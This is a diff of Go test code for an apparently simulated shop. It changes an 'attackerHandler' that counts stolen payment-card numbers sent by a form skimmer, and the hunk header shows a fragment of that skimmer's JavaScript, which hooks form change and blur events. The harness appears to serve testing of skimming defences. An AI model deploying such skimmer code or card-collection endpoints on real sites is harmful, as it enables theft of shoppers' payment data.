@@ -385,10 +385,10 @@ f.addEventListener('change',grab,true);f.addEventListener('blur',grab,true);})()
 }
 
 func (s *JourneyShop) attackerHandler() http.Handler {
-	card := carddata.Test()
 	return http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
 		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
-		if _, ok := card.Find(append([]byte(r.URL.RequestURI()+"\n"), body...)); ok {
+		// Each scan types its own card: any card number written out counts.
+		if got := r.URL.RequestURI() + "\n" + string(body); carddata.MaskPANs(got) != got {
 			s.stolen.Add(1)
 		}
 		w.Header().Set("Content-Type", "image/gif")
